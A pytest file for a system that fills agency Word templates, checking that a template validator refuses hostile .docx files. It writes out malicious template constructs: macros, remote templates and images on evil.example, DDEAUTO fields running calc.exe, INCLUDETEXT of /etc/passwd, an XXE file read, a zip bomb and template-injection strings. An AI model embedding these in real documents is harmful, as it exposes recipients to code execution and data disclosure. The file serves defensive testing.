"""Agency templates: what they may do, and that what they may not do is live without the check."""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Callable

import docx
import pytest
from document_sample import SAMPLE

from prongsai.documents import template_docx
from prongsai.documents.errors import TemplateError
from prongsai.documents.template_docx import check_template
from prongsai.documents.tree import Document, Paragraph, Section
from prongsai.documents.writers import WriteOptions, write

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELS = "word/_rels/document.xml.rels"
BODY = "word/document.xml"
TYPES = "[Content_Types].xml"
Edit = Callable[[dict[str, bytes]], None]


def template(*paragraphs: str, header: str = "") -> bytes:
    """A template as an officer makes it: Word's own default styles, a header, some paragraphs."""
    file = docx.Document()
    for text in paragraphs:
        file.add_paragraph(text)
    if header:
        file.sections[0].header.paragraphs[0].text = header
    buffer = io.BytesIO()
    file.save(buffer)
    return buffer.getvalue()


def edited(data: bytes, edit: Edit) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    edit(parts)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def replaced(part: str, old: str, new: str) -> Edit:
    def edit(parts: dict[str, bytes]) -> None:
        text = parts[part].decode()
        assert old in text
        parts[part] = text.replace(old, new, 1).encode()

    return edit


def related(kind: str, target: str, external: bool = True, extra: dict[str, bytes] | None = None) -> Edit:
    mode = ' TargetMode="External"' if external else ""
    entry = f'<Relationship Id="rIdX" Type="{kind}" Target="{target}"{mode}/></Relationships>'

    def edit(parts: dict[str, bytes]) -> None:
        parts.update(extra or {})
        replaced(RELS, "</Relationships>", entry)(parts)

    return edit


def in_body(xml: str) -> Edit:
    return replaced(BODY, "<w:sectPr", f"{xml}<w:sectPr")


def field(*codes: str) -> str:
    runs = "".join(f"<w:r><w:instrText>{code}</w:instrText></w:r>" for code in codes)
    return (
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        '<w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def hidden_field() -> str:
    inner = field("QUOTE 68 68 69").removeprefix("<w:p>").removesuffix("</w:p>")
    return (
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{inner}<w:r><w:instrText> c:\\\\calc</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def macro(parts: dict[str, bytes]) -> None:
    related("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin", external=False)(
        parts
    )
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0macro"
    old, new = "</Types>", '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
    replaced(TYPES, old, new)(parts)


# Each attack, and the words by which it is still live in a file that was opened and saved without the check.
ATTACKS: dict[str, tuple[Edit, str]] = {
    "macro": (macro, "vbaProject"),
    "remote template": (related(f"{R}/attachedTemplate", "http://evil.example/x.dotm"), "evil.example"),
    "remote image": (related(f"{R}/image", "http://evil.example/x.png"), "evil.example"),
    "image on a share": (related(f"{R}/image", "file://evil.example/share/x.png"), "evil.example"),
    "linked object": (related(f"{R}/oleObject", "http://evil.example/x.xls"), "evil.example"),
    "link to a program": (related(f"{R}/hyperlink", "file:///c:/windows/calc.exe"), "calc.exe"),
    "frame": (related(f"{R}/frame", "http://evil.example/f.htm"), "evil.example"),
    "dde": (in_body(field("DDEAUTO c:\\\\windows\\\\calc.exe")), "DDEAUTO"),
    "dde in pieces": (in_body(field("DD", "EAUTO calc")), "EAUTO"),
    "dde hidden in a quote": (in_body(hidden_field()), "QUOTE 68"),
    "dde in a simple field": (in_body('<w:p><w:fldSimple w:instr=" dde calc x"/></w:p>'), "dde calc"),
    "include picture": (in_body(field('INCLUDEPICTURE "http://evil.example/p.png"')), "INCLUDEPICTURE"),
    "include text": (in_body(field('INCLUDETEXT "file:///etc/passwd"')), "INCLUDETEXT"),
    "link field": (in_body(field("LINK Excel.Sheet c:\\\\x.xls")), "LINK Excel"),
    "hyperlink field to a program": (in_body(field('HYPERLINK "file:///c:/calc.exe"')), "calc.exe"),
    "object": (in_body("<w:p><w:r><w:object/></w:r></w:p>"), "w:object"),
    "chunk": (in_body(f'<w:altChunk xmlns:r="{R}" r:id="rId1"/>'), "altChunk"),
    "remote vml": (
        in_body(
            '<w:p><w:r><w:pict><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="http://evil.example/"/></w:pict></w:r></w:p>'
        ),
        "evil.example",
    ),
}


@pytest.mark.parametrize("name", ATTACKS)
def test_attack_is_live_without_the_check_and_refused_with_it(name: str) -> None:
    edit, sign = ATTACKS[name]
    data = edited(template("{{agency}}"), edit)
    saved = io.BytesIO()
    docx.Document(io.BytesIO(data)).save(saved)
    with zipfile.ZipFile(saved) as archive:
        kept = [part for part in archive.namelist() if sign.encode() in archive.read(part) or sign in part]
    assert kept, "the payload would not survive, so the test proves nothing"
    with pytest.raises(TemplateError) as caught:
        write(SAMPLE, "docx", WriteOptions(template=data, template_name="แม่แบบ.docx"))
    assert caught.value.where.startswith("แม่แบบ.docx")
    assert caught.value.message_th.startswith("ไม่รับแม่แบบนี้")


def test_entities_read_files_without_the_check(tmp_path) -> None:  # type: ignore[no-untyped-def]
    from lxml import etree

    secret = tmp_path / "secret.txt"
    secret.write_text("ความลับ", encoding="utf-8")
    declared = f'<!DOCTYPE w:document [<!ENTITY x SYSTEM "{secret.as_uri()}">]><w:document'

    def edit(parts: dict[str, bytes]) -> None:
        replaced(BODY, "<w:document", declared)(parts)
        in_body("<w:p><w:r><w:t>&x;</w:t></w:r></w:p>")(parts)

    data = edited(template(), edit)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        live = etree.fromstring(archive.read(BODY), etree.XMLParser(resolve_entities=True, load_dtd=True))
    assert "ความลับ" in "".join(live.itertext())
    with pytest.raises(TemplateError, match="DOCTYPE"):
        check_template(data)


def test_zip_bomb(monkeypatch: pytest.MonkeyPatch) -> None:
    def edit(parts: dict[str, bytes]) -> None:
        parts["word/media/big.png"] = b"<a>" + b" " * 20_000_000 + b"</a>"

    data = edited(template(), edit)
    assert len(data) < 200_000
    with pytest.raises(TemplateError, match="grows too much"):
        check_template(data)
    monkeypatch.setattr(template_docx, "MAX_RATIO", 10**9)
    check_template(data)
    monkeypatch.setattr(template_docx, "MAX_UNPACKED", 1_000_000)
    with pytest.raises(TemplateError, match="grows too much"):
        check_template(data)


def test_limits_and_broken_files() -> None:
    good = template()
    for data, words in (
        (b"", "not a readable"),
        (b"PK\x03\x04rubbish", "not a readable"),
        (good[:-40], "not a readable"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "encrypted or old"),
        (b"x" * (template_docx.MAX_FILE + 1), "too big"),
        (edited(good, lambda parts: parts.pop(TYPES) and None), "missing"),
        (edited(good, lambda parts: parts.update({f"word/{n}.xml": b"<a/>" for n in range(400)})), "parts"),
        (edited(good, lambda parts: parts.update({"word/../../x.xml": b"<a/>"})), "unsafe"),
        (edited(good, lambda parts: parts.update({BODY: parts[BODY][:-30]})), "broken XML"),
        (edited(good, replaced(TYPES, "wordprocessingml.document.main", "spreadsheetml.sheet.main")), "not a Word"),
        (
            edited(
                good,
                replaced(
                    TYPES,
                    "openxmlformats-officedocument.wordprocessingml.document.main+xml",
                    "ms-word.document.macroEnabled.main+xml",
                ),
            ),
            "macros",
        ),
    ):
        with pytest.raises(TemplateError, match=words):
            check_template(data)


@pytest.mark.parametrize(
    "expression",
    [
        "{{ agency.__class__.__mro__ }}",
        "{{ ''.__class__ }}",
        "{{ open('/etc/passwd').read() }}",
        "{% for x in y %}",
        "{# note #}",
        "{{agency|upper}}",
        "{{AGENCY}}",
        "{{",
        "{{ __import__ }}",
        "{{unknown}}",
    ],
)
def test_expressions_are_refused_by_name(expression: str) -> None:
    with pytest.raises(TemplateError) as caught:
        write(SAMPLE, "docx", WriteOptions(template=template(f"หน่วยงาน {expression}")))
    assert expression.strip() in caught.value.message_th
    assert caught.value.where.endswith("word/document.xml")


def test_expressions_in_notes_are_refused_too() -> None:
    kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.footnotes+xml"

    def edit(parts: dict[str, bytes]) -> None:
        text = "<w:footnote><w:p><w:r><w:t>{{agency}}</w:t></w:r></w:p></w:footnote>"
        note = f'<w:footnotes xmlns:w="{W}">{text}</w:footnotes>'
        related(f"{R}/footnotes", "footnotes.xml", external=False, extra={"word/footnotes.xml": note.encode()})(parts)
        replaced(TYPES, "</Types>", f'<Override PartName="/word/footnotes.xml" ContentType="{kind}"/></Types>')(parts)

    with pytest.raises(TemplateError, match="not filled") as caught:
        filled(edited(template(), edit))
    assert caught.value.where.endswith("word/footnotes.xml")


def test_an_empty_template_adds_no_empty_line() -> None:
    assert filled(template("", "")).paragraphs[0].text == filled(template("{{body}}")).paragraphs[0].text


def test_expressions_are_live_in_an_engine_that_evaluates() -> None:
    """The positive control: formatting by Python's own rules reads attributes, which is why nothing is formatted."""
    assert "str" in "{agency.__class__}".format(agency="x")


def filled(data: bytes, document: Document = SAMPLE) -> docx.document.Document:
    return docx.Document(io.BytesIO(write(document, "docx", WriteOptions(template=data))))


def test_slots_are_filled_as_text_in_body_and_header() -> None:
    file = filled(template("ของ {{ agency }} ณ {{date}}", header="{{title}}"))
    assert file.paragraphs[0].text == f"ของ {SAMPLE.agency} ณ {SAMPLE.slots['date']}"
    assert file.sections[0].header.paragraphs[0].text == SAMPLE.title
    assert file.sections[-1].header.paragraphs[0].text == SAMPLE.title
    assert "คะแนนรายตัวชี้วัด" in "".join(t.text for t in file.element.body.iter(f"{{{W}}}t"))


def test_a_slot_cut_into_runs_is_found_and_a_value_is_not_filled_again() -> None:
    runs = "".join(f"<w:r><w:t>{part}</w:t></w:r>" for part in ("ก {", "{ag", "ency}", "} ข {{title}}"))
    data = edited(template(), in_body(f"<w:p>{runs}</w:p>"))
    document = Document("ชื่อ", (Section((Paragraph("เนื้อ"),)),), agency="{{title}} & <w:t>")
    assert filled(data, document).paragraphs[0].text == "ก {{title}} & <w:t> ข ชื่อ"


def test_body_slot() -> None:
    texts = [p.text for p in filled(template("ก่อน", "{{body}}", "หลัง")).paragraphs]
    assert texts[0] == "ก่อน"
    assert texts[-1] == "หลัง"
    assert "{{body}}" not in texts
    for bad in (template("{{body}} ก"), template("{{body}}", "{{body}}"), template(header="{{body}}")):
        with pytest.raises(TemplateError, match="body"):
            filled(bad)


def test_template_styles_win_and_missing_ones_come_along() -> None:
    def edit(parts: dict[str, bytes]) -> None:
        text = parts["word/styles.xml"].decode()
        parts["word/styles.xml"] = re.sub('w:styleId="Heading1"', 'w:styleId="หัวเรื่อง"', text).encode()

    file = filled(edited(template("{{body}}"), edit))
    heads = [p for p in file.paragraphs if p.style.name == "Heading 1"]
    assert [p.style.style_id for p in heads] == ["หัวเรื่อง"] * 2
    used = {e.get(f"{{{W}}}val") for e in file.element.body.iter(f"{{{W}}}pStyle")}
    known = {s.style_id for s in file.styles}
    assert used <= known
    numbers = {e.get(f"{{{W}}}val") for e in file.element.body.iter(f"{{{W}}}numId")}
    made = file.part.numbering_part.element
    assert numbers <= {n.get(f"{{{W}}}numId") for n in made.iter(f"{{{W}}}num")}
    kinds = [n.get(f"{{{W}}}abstractNumId") for n in made.iter(f"{{{W}}}abstractNum")]
    assert len(kinds) == len(set(kinds))


def test_template_margins_and_orientation() -> None:
    file = filled(template("{{body}}"))
    assert file.sections[0].left_margin == docx.Document().sections[0].left_margin
    assert [s.orientation for s in file.sections] == [0, 0, 0, 0, 1]
    widths = {int(t.tblPr.find(f"{{{W}}}tblW").get(f"{{{W}}}w")) for t in (x._tbl for x in file.tables)}
    assert len(widths) == 2


def test_dotx_is_taken_as_a_document() -> None:
    data = edited(template("{{agency}}"), replaced(TYPES, "document.main+xml", "template.main+xml"))
    assert filled(data).paragraphs[0].text == SAMPLE.agency


def test_our_own_documents_pass_the_check() -> None:
    data = write(SAMPLE, "docx")
    assert check_template(data) == data
